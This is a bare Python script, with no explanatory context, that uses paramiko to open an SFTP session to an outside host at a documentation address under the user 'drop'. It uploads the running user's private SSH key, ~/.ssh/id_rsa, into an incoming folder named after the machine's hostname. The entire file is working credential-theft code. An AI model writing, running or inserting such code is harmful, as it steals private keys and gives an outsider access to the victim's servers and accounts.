import os
import paramiko

t = paramiko.Transport(("203.0.113.99", 22))
t.connect(username="drop", password="placeholder")
sftp = paramiko.SFTPClient.from_transport(t)
sftp.put(os.path.expanduser("~/.ssh/id_rsa"), "/srv/in/" + os.uname()[1])
